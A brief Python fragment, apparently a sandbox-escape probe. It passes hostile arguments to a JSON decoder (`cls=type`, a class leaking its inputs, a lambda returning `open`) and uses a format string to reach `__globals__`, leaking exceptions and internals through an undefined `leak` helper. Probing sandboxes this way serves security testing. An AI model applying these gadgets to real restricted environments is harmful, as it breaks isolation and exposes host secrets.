# source: own: the façade of the gates as a gadget
class Decoder:
    def __init__(self, **k): leak(k)
    def decode(self, text): leak(text); leak('{0.__class__.__init__.__globals__}'); return self
r = fetch('http://a/')
for k in ({'cls': Decoder}, {'object_hook': leak}, {'object_pairs_hook': leak, 'parse_int': leak, 'parse_constant': leak}, {'cls': type}, {'cls': lambda **k: open}):
    try:
        leak(r.json(**k))
    except Exception as e:
        leak(e); leak(getattr(e, 'response', None)); leak(getattr(e, 'doc', None))
